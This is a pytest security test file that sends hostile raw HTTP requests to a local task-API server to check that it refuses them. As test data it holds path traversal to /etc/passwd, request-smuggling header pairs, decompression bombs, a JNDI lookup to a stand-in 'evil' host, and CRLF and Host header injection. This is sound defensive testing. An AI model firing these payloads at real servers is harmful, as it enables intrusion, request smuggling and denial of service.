"""Requests that no honest client makes, as bytes, to a real server."""

from __future__ import annotations

import gzip
import zlib
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest
from tests.server.raw import CLOSE, HOST, JSON, Wire, harmless, head, unharmed
from tests.server.running import Serving, project

TASKS = b"/api/v1/tasks"
ONE = TASKS + b"/1"
GOOD = b'{"title":"smug"}'
LARGEST = 10_000_000
PACKED = gzip.compress(GOOD, mtime=0)
BOMB = gzip.compress(b'{"title":"%b"}' % (b"x" * LARGEST), 9, mtime=0)


def each(*names: str, of: Sequence[object]) -> pytest.MarkDecorator:
    """A test for each, which may be long and no text at all."""
    return pytest.mark.parametrize(",".join(names), of, ids=lambda one: repr(one)[:40])


@pytest.fixture(scope="module")
def wire(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Wire]:
    folder = project(tmp_path_factory.mktemp("project"), 5)
    with Serving(folder) as server:
        found = Wire(server)
        with unharmed(found):
            yield found


@each(
    "path",
    of=[
        b"/api/v1/tasks/..", b"/api/v1/tasks/%2e%2e", b"/api/v1/tasks/%2e%2e%2fkeys",
        b"/api/v1/tasks/1%00", b"/api/v1/tasks/%00", b"/api/v1/tasks/%c0%ae", b"/api/v1/tasks/%ff",
        b"//api/v1/tasks", b"/api//v1/tasks", b"/api/v1/tasks//1", b"/api/v1\\tasks",
        b"/api/v1/tasks%2f1", b"/api/v1/tasks/1/", b"/api/v1/tasks/1/.", b"/API/V1/tasks",
        b"/api/v1/tasks/%EF%BC%91", b"/api/v1/tasks/%D9%A1", b"/api/v1/tasks/%e2%82%81",
        b"/api/v1/tasks/%31%32%33%34", b"/api/v1/tasks/-1", b"/api/v1/tasks/1e0",
        b"/api/v1/tasks/0x1", b"/api/v1/tasks/1;a=b", b"/api/v1/tasks/%u0031",
        b"/api/v1/tasks/%zz", b"/api/v1/tasks/%", b"/api/v1/tasks/%s%n", b"/api/v1/tasks/$1",
        b"/api/v1/tasks/" + b"9" * 5_000, b"/api/v1/tasks/1." + b"9" * 20_000,
        b"/api/v1/tasks/" + b"1." * 5_000, b"/api/v1/tasks/" + b"%F0%9F%98%80" * 1_000,
        b"/api/v1/projects/../tasks", b"/api/v1/projects/%2e%2e/tasks", b"/docs/..%5c..%5cx",
        b"/docs/../../etc/passwd", b"/docs/%2e%2e%2f%2e%2e%2fetc%2fpasswd", b"/docs/__init__.py",
        b"/api/v1/tags/%2e%2e%2fmaster", b"/api/v1/tags/" + b"a" * 9_000, b"*", b"/",
    ],
)  # fmt: skip
def test_a_strange_path_leads_nowhere(wire: Wire, path: bytes) -> None:
    found = harmless(wire.get(path), wire)

    assert found.status == 404
    assert b"smug" not in found.whole


@each(
    "query",
    of=[
        b"tag=%ff", b"tag=%00", b"tag=../../x", b"tag=__proto__", b"tag[]=x", b"=1", b"a=1&" * 200,
        b"limit=1e3", b"limit=%D9%A1", b"limit=0x10", b"limit=1_0", b"limit=5&limit=6",
        b"limit=99999999999999999999", b"offset=NaN", b"offset=-1", b"ready=maybe",
        b"cursor=" + b"W1tbW1tb" * 500, b"cursor=WzFlOTk5LCJhIl0", b"cursor=Wy01LCIxIl0",
        b"where=%22", b"where=" + b"(" * 900, b"where=" + b"not%20" * 300,
        b"where=id%3A" + b"9" * 1_500, b"where=created%3E" + b"9" * 1_500, b"api_key=x", b"token=x",
        b"sort=" + b"a," * 3_000, b"fields=" + b"a," * 5_000, b"labels=" + b"x" * 9_000,
        b"callback=x", b"_method=x",
    ],
)  # fmt: skip
def test_a_strange_question_is_refused(wire: Wire, query: bytes) -> None:
    assert harmless(wire.get(TASKS + b"?" + query), wire).status in (400, 404)


@each(
    "query", of=[b"labels=a%22b", b"labels=%5C", b"labels=%22%20or%20id:1%20or%20label:%22", b"&&&",
              b"fields=title%00", b"where=%22(a%2B)%2B%22"]
)  # fmt: skip
def test_signs_with_a_meaning_elsewhere_have_none_here(wire: Wire, query: bytes) -> None:
    found = harmless(wire.get(TASKS + b"?" + query), wire)

    assert found.status == 200
    assert (found.data["total"] == 0) == query.startswith((b"labels", b"where"))


@each(
    "body",
    of=[
        b"", b"   ", b"null", b"[]", b'"x"', b"\x00", b'{"title":"x"', GOOD * 2,
        b"\xef\xbb\xbf" + GOOD, b'{"title":"x","id":"7"}', b'{"a":' * 90_000, b"[" * 500_000,
        GOOD.decode().encode("utf-16"), b'{"title":"\xff\xfe"}', b'{"title":"\xc0\x80"}',
        b'{"title":"\xed\xa0\x80"}', b'{"title":"\\ud800"}', b'{"title":"x","metadata":{"a":NaN}}',
        b'{"title":"x","effort":Infinity}', b'{"title":"x","effort":1e999}',
        b'{"title":"x","metadata":{"a":1e999}}',
        b'{"title":"x","dependencies":[%b]}' % (b"9" * 400), b'{"title":"x","__proto__":{}}',
        b'{"title":"x","dueDate":"0000-00-00"}', b'{"title":{"$gt":""}}',
        b'{"title":"x","metadata":{"a":%b%b}}' % (b"[" * 90_000, b"]" * 90_000),
        b'{"title":"x","metadata":{"a":%b}}' % (b"9" * 5_000),
    ],
)  # fmt: skip
def test_a_strange_body_is_refused(wire: Wire, body: bytes) -> None:
    assert harmless(wire.send(body), wire).status == 400


@each(
    "kind",
    of=[b"text/plain", b"application/x-www-form-urlencoded", b"multipart/form-data", b"\xff",
        b"application/json, text/plain", b"text/json"],
)  # fmt: skip
def test_a_body_of_another_type_is_refused(wire: Wire, kind: bytes) -> None:
    found = harmless(wire.send(GOOD, b"Content-Type: %b\r\n" % kind), wire)

    assert found.status == 415


def test_a_body_that_is_too_large_is_refused_whether_it_says_so_or_not(wire: Wire) -> None:
    large = b'{"title":"%b"}' % (b"x" * LARGEST)
    piece = b"10000\r\n%b\r\n" % bytes(65_536)
    chunked = head(b"POST", TASKS, wire.mine, JSON, b"Transfer-Encoding: chunked\r\n")

    assert harmless(wire.send(large), wire).status == 413
    assert harmless(wire.say(chunked, *[piece] * 160), wire).status == 413


@each(
    "coding", "body", "status",
    of=[
        (b"gzip", BOMB, 413), (b"gzip, gzip", gzip.compress(BOMB, mtime=0), 415),
        (b"deflate", zlib.compress(bytes(LARGEST)), 413), (b"br", GOOD, 415),
        (b"gzip", GOOD, 400), (b"gzip", PACKED[:-4], 400), (b"gzip", PACKED * 2, 400),
        (b"\xff", GOOD, 415),
    ],
)  # fmt: skip
def test_a_bomb_does_not_go_off(wire: Wire, coding: bytes, body: bytes, status: int) -> None:
    assert harmless(wire.send(body, b"Content-Encoding: %b\r\n" % coding), wire).status == status


@each(
    "lines",
    of=[
        b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", b"Content-Length: 16, 16\r\n",
        b"Transfer-Encoding: chunked\r\nContent-Length: 16\r\n", b"Content-Length: 1e1\r\n",
        b"Content-Length: 16\r\nContent-Length: 0\r\n",
        b"Content-Length: 16\r\nContent-Length: 16\r\n",
        b"Content-Length: +16\r\n", b"Content-Length: -1\r\n", b"Content-Length: 0x10\r\n",
        b"Content-Length: \xd9\xa1\r\n", b"Content-Length: 99999999999999999999999\r\n",
        b"Content-Length:\r\n", b"Content-Length : 16\r\n", b"Transfer-Encoding: xchunked\r\n",
        b"Transfer-Encoding: chunked, identity\r\n", b"Transfer-Encoding: identity\r\n",
        b"Transfer-Encoding: chunked, chunked\r\n", b"Transfer-Encoding: \x0bchunked\r\n",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
        b"Transfer-Encoding:\r\n chunked\r\n", b"Transfer-Encoding : chunked\r\n",
        b"X-A: b\r\n c\r\n", b"X-A: b\rX-B: c\r\n", b"X-A: b\x00c\r\n", b"X A: b\r\n", b"XA\r\n",
        b": x\r\n", b"X-A: b\nX-B: c\r\n",
    ],
)  # fmt: skip
def test_nobody_can_hide_a_second_request_in_the_first(wire: Wire, lines: bytes) -> None:
    hidden = head(b"GET", TASKS + b"/2", wire.mine)
    start = b"POST %b HTTP/1.1\r\n%b" % (TASKS, HOST + wire.mine + JSON + lines)

    found = harmless(wire.say(start + b"\r\n10\r\n" + GOOD + b"\r\n0\r\n\r\n" + hidden), wire)

    assert found.status == 400
    assert b"smug" not in found.whole
    assert b"Task 2" not in found.whole


@each(
    "chunks",
    of=[
        b"0x10\r\n" + GOOD + b"\r\n0\r\n\r\n", b"10\n" + GOOD + b"\r\n0\r\n\r\n", b"-1\r\n",
        b"FFFFFFFFFFFFFFFFF\r\n", b"10\r\n" + GOOD + b"xx0\r\n\r\n", b"\r\n", b"z\r\n",
    ],
)  # fmt: skip
def test_chunks_are_counted_as_they_must_be(wire: Wire, chunks: bytes) -> None:
    start = head(b"POST", TASKS, wire.mine, JSON, b"Transfer-Encoding: chunked\r\n")

    assert harmless(wire.say(start + chunks), wire).status == 400


def test_what_comes_behind_a_body_is_none_of_its_headers(wire: Wire) -> None:
    start = head(b"POST", TASKS, JSON, b"Transfer-Encoding: chunked\r\n")
    behind = b"10\r\n" + GOOD + b"\r\n0\r\n" + wire.mine + b"X-Request-Id: mine\r\n\r\n"

    found = harmless(wire.say(start + behind), wire)

    assert found.status == 401
    assert b"mine" not in found.whole


def test_any_number_of_headers_behind_a_body_takes_no_room(wire: Wire) -> None:
    start = head(b"POST", TASKS, wire.mine, JSON, b"Transfer-Encoding: chunked\r\n")
    behind = b"".join(b"X-%d: %b\r\n" % (number, b"a" * 1_000) for number in range(20_000))

    found = harmless(wire.say(start + b"10\r\n" + GOOD + b"\r\n0\r\n", behind, b"\r\n"), wire)

    assert found.status == 201


@each(
    "rubbish",
    of=[
        b"\x00" * 100, bytes(range(256)) * 10, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" * 20,
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"GET\r\n\r\n", b"GET " + ONE + b" HTTP/9.9\r\n\r\n",
        b"GET " + ONE + b" HTTP/1.1\nHost: localhost\n\n", b"get " + ONE + b" HTTP/1.1\r\n\r\n",
        b"HTTP/1.1 200 OK\r\n\r\n", b"SSH-2.0-x\r\n", b"\xff\xf4\xff\xfd\x06", b"G" * 9_000,
        b"GET \\api\\v1 HTTP/1.1\r\n\r\n", b"GET /\xff HTTP/1.1\r\n\r\n",
        b"FOO " + ONE + b" HTTP/1.1\r\n" + HOST + CLOSE + b"\r\n",
    ],
)  # fmt: skip
def test_rubbish_is_none_of_ours(wire: Wire, rubbish: bytes) -> None:
    assert harmless(wire.say(rubbish, b"\r\n\r\n"), wire).status in (0, 400)


@each(
    "method", of=[b"TRACE", b"CONNECT", b"PUT", b"PROPFIND", b"MKCOL", b"PURGE", b"LINK", b"SEARCH"]
)
def test_a_method_that_is_not_there_does_nothing(wire: Wire, method: bytes) -> None:
    found = harmless(wire.get(ONE, method=method), wire)

    assert found.status in (0, 405)  # A tunnel is none, and gets no answer.
    assert b"Task 1" not in found.whole


@each("header", of=[b"X-HTTP-Method-Override", b"X-Method-Override", b"X-HTTP-Method"])
def test_a_method_in_a_header_is_no_method(wire: Wire, header: bytes) -> None:
    found = wire.get(ONE, header + b": DELETE\r\n")

    assert found.data["title"] == "Task 1"
    assert wire.get(ONE).status == 200


@each(
    "host",
    of=[
        b"evil.example", b"localhost.evil.example", b"evil.example:80", b"localhost@evil.example",
        b"localhost:99999999", b"localhost:80:80", b"127.1", b"0x7f000001", b"2130706433", b"\xff",
        b"localhost/", b"localhost#x", b"localhost,evil", b"a" * 9_000, b"", b"127.0.0.1.nip.io",
        b"[::1", b"[::ffff:7f00:1]", b"0.0.0.0", b"localhost\r\nHost: localhost",
        b"evil.example\r\nX-Forwarded-Host: localhost", b"evil\r\nForwarded: host=localhost",
    ],
)  # fmt: skip
def test_the_server_is_called_by_its_own_name_or_not_at_all(wire: Wire, host: bytes) -> None:
    found = harmless(wire.get(ONE, b"Host: %b\r\n" % host), wire)

    assert found.status in (400, 403)
    assert b"Task 1" not in found.whole


@each(
    "origin",
    of=[
        b"http://evil.example", b"null", b"http://localhost:3000", b"file://localhost", b"*",
        b"capacitor://localhost", b"http://localhost@evil.example", b"://localhost", b"localhost",
        b"http://localhost.evil.example", b"http://evil.example#localhost", b"\xff", b"http://",
        b"http://localhost, http://evil", b"http://localhost/",
    ],
)  # fmt: skip
def test_a_page_of_somebody_else_changes_nothing(wire: Wire, origin: bytes) -> None:
    found = harmless(wire.send(GOOD, b"Origin: %b\r\n" % origin), wire)
    asked = harmless(wire.get(ONE, b"Origin: %b\r\n" % origin), wire)

    assert found.status == 403
    assert b"access-control-allow" not in found.whole + asked.whole


@each(
    "mark",
    of=[b'"x"', b'W/"x"', b"x" * 9_000, b'"' * 1_000, b",,,", b"\xff", b'"a", "b"', b'"-gz"'],
)
def test_a_mark_of_nothing_is_no_mark(wire: Wire, mark: bytes) -> None:
    asked = harmless(wire.get(ONE, b"If-None-Match: %b\r\n" % mark), wire)
    changed = wire.send(b'{"note":"x"}', b"If-Match: %b\r\n" % mark, path=ONE, method=b"PATCH")

    assert asked.status == 200
    assert harmless(changed, wire).status == 412


def test_a_key_for_repeating_is_one_request_and_nothing_else(wire: Wire) -> None:
    def sent(key: bytes, body: bytes, path: bytes = TASKS) -> int:
        return harmless(wire.send(body, b"Idempotency-Key: %b\r\n" % key, path=path), wire).status

    assert sent(b"one", GOOD) == 201
    assert sent(b"one", b'{"title":"other"}') == 422
    assert sent(b"one", GOOD, TASKS + b"?tag=master") == 422
    assert sent(b"one", b'{"text":"x"}', ONE + b"/notes") == 422
    assert sent(b"one ", GOOD) == 201
    assert sent(b"\xff\xfe", GOOD) == 201
    assert sent(b"x" * 256, GOOD) == 400
    assert sent(b"x\x01", GOOD) == 400


@each(
    "header",
    of=[
        b"Accept: " + b"a/b," * 5_000, b"Accept-Encoding: gzip;q=nan", b"Accept-Encoding: *;q=0",
        b"Accept-Encoding: " + b"gzip," * 5_000, b"Range: bytes=0-1", b"Expect: 200-never",
        b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__", b'X-Request-Id: a"b\\c',
        b"X-Request-Id: " + b"a" * 9_000, b"Cookie: " + b"a=b;" * 5_000, b"X-Original-URL: /keys",
        b"X-Rewrite-URL: /api/v1/keys", b"X-Forwarded-Prefix: /../", b"Max-Forwards: 0",
        b"User-Agent: ${jndi:ldap://evil/a}", b"Referer: \xff", b"If-Modified-Since: x",
        b"Content-Type: \xff", b"TE: trailers", b"Via: 1.1 " + b"x" * 9_000,
    ],
)  # fmt: skip
def test_a_header_that_means_nothing_here_changes_nothing(wire: Wire, header: bytes) -> None:
    found = harmless(wire.get(ONE, header + b"\r\n"), wire)

    assert found.data["title"] == "Task 1"


def test_a_head_that_is_too_large_is_refused(wire: Wire) -> None:
    many = b"".join(b"X-%d: a\r\n" % number for number in range(150))

    assert harmless(wire.get(ONE, many), wire).status == 431
    assert harmless(wire.get(ONE, b"X-A: %b\r\n" % (b"a" * 40_000)), wire).status == 431


def test_the_memory_of_the_server_is_no_larger_for_all_that(wire: Wire) -> None:
    statm = Path(f"/proc/{wire.server.process.pid}/statm")
    if not statm.exists():
        pytest.skip("only Linux tells")

    def taken() -> int:
        return int(statm.read_text("ascii").split()[1]) * 4_096

    before = taken()
    for number in range(1_000):
        harmless(wire.get(b"/api/v1/tasks/%d" % number + b"9" * 20_000), wire)
        harmless(wire.get(TASKS + b"?labels=%d" % number + b"x" * 1_900), wire)

    assert taken() - before < 20_000_000
